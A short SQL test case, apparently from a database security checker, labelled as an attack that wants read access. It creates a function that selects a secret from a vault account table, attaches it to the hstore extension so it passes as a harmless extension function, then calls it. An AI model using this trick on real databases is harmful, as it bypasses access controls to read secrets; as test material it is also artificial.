-- Adds an own function to an extension of which every function is taken for harmless.
-- wants: read
-- attack:
CREATE EXTENSION hstore;
CREATE FUNCTION peek() RETURNS text LANGUAGE sql AS 'SELECT secret FROM public.vlt_account WHERE id = 1';
ALTER EXTENSION hstore ADD FUNCTION peek();
SELECT peek();
